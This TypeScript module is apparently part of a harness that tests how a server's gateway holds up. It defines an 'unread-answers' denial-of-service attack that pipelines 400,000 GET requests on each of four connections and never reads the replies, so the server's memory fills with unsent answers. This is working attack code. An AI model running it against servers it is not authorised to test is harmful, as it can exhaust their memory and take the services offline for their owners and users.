import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, Tally, type Target } from './attack.ts';
import { open, over } from './raw-request.ts';

/** 17 MB on each connection: more than the system itself takes of what nobody reads, a few megabytes. */
const requests = 400_000;
const sockets = 4;
const pipelined = Buffer.from('GET /v1/products HTTP/1.1\r\nHost: shop\r\n\r\n'.repeat(requests));

/** Sends requests and reads no answer: the server keeps the answers in memory. */
async function flood(target: Target, tally: Tally, until: AbortSignal): Promise<void> {
  while (!until.aborted) {
    const socket = await open(target.urls.gateway, target);
    if (!socket) {
      tally.add('closed');
      await sleep(100);
      continue;
    }
    const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
    socket.pause();
    socket.write(pipelined);
    // Who does not read learns only from a write that the other side is gone.
    const trying = setInterval(() => socket.write('\r\n'), 500);
    await Promise.race([closed, over(until)]);
    clearInterval(trying);
    tally.add(until.aborted ? 'unread' : 'closed');
    socket.destroy();
  }
}

export const unreadAnswers: Attack = {
  name: 'unread-answers',
  about: `${requests} anonymous GETs are pipelined on each of ${sockets} connections, and no answer is read`,
  refusedBy: ['closed', 'unread'],
  run: async (target, until) => {
    const tally = new Tally();
    await Promise.all(Array.from({ length: sockets }, () => flood(target, tally, until)));
    return tally.answers;
  },
};
